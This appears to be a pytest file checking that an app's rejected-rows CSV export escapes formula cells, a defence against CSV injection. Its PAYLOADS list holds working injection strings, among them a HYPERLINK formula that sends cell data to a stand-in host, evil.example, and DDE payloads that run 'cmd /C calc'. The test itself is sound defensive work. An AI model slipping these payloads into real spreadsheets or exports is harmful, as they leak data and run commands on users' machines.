"""The rejected-rows download escapes spreadsheet formulas (CSV injection), end to end."""

from __future__ import annotations

import csv
import io

import pytest
from cryptography.fernet import Fernet
from sqlmodel import Session

from sfmc.push import run_pathway
from sfmc.simulator import DEMO_CLIENT_ID, DEMO_CLIENT_SECRET, SimulatorConfig, start_simulator
from sfmc.worker import default_client_factory
from store import repo, runs
from store.datasets import import_file
from store.db import create_db_and_tables, make_engine

# Each row has a bad email (so it is rejected) and a cell a spreadsheet would run.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
]


@pytest.fixture
def engine(tmp_path, monkeypatch):
    monkeypatch.setenv("PATHWAYS_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("PATHWAYS_SECRET_KEY", Fernet.generate_key().decode())
    monkeypatch.setenv("PATHWAYS_DEMO", "1")
    eng = make_engine(f"sqlite:///{tmp_path / 'store.db'}")
    create_db_and_tables(eng)
    yield eng
    eng.dispose()


def test_rejected_rows_csv_escapes_every_formula_cell(engine):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["email", "note"])
    writer.writerow(["ok@example.org", "fine"])
    for i, payload in enumerate(PAYLOADS):
        writer.writerow([f"=bad{i}", payload])  # the email itself is a formula too
    import_file(engine, out.getvalue().encode(), name="d", filename="d.csv")
    config = SimulatorConfig(latency_ms=0, soap_latency_ms=0, rate_limit=0, async_rows_per_s=1e7)
    with start_simulator(config) as sim, Session(engine) as session:
        ds = repo.get_dataset_by_name("d", session=session)
        audience = repo.create_audience("a", ds.id, session=session)
        conn = repo.create_connection(
            "c", sim.auth_uri, DEMO_CLIENT_ID, DEMO_CLIENT_SECRET, session=session
        )
        pathway = repo.create_pathway(
            audience.id, conn.id, "CSV", "csv_key", session=session, category_id=1000
        )
        repo.set_mapping(
            pathway.id,
            [
                {"source_column": "email", "destination_field": "Email",
                 "field_type": "EmailAddress", "length": 254, "is_primary_key": True,
                 "required": True},
                {"source_column": "note", "destination_field": "Note", "length": 200},
            ],
            session=session,
        )  # fmt: skip
        queued = runs.enqueue_run(engine, pathway.id, "manual")
        run_pathway(engine, queued.id, client_factory=default_client_factory)
    done = runs.get_run(engine, queued.id)
    assert (done.state, done.rows_failed) == ("succeeded", len(PAYLOADS)), done.error
    data = runs.rejected_rows_csv(engine, done.id)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[:2] == ["email", "note"]
    assert len(body) == len(PAYLOADS)
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    notes = {row[1] for row in body}
    assert notes == {"'" + p for p in PAYLOADS}  # escaped, not altered otherwise
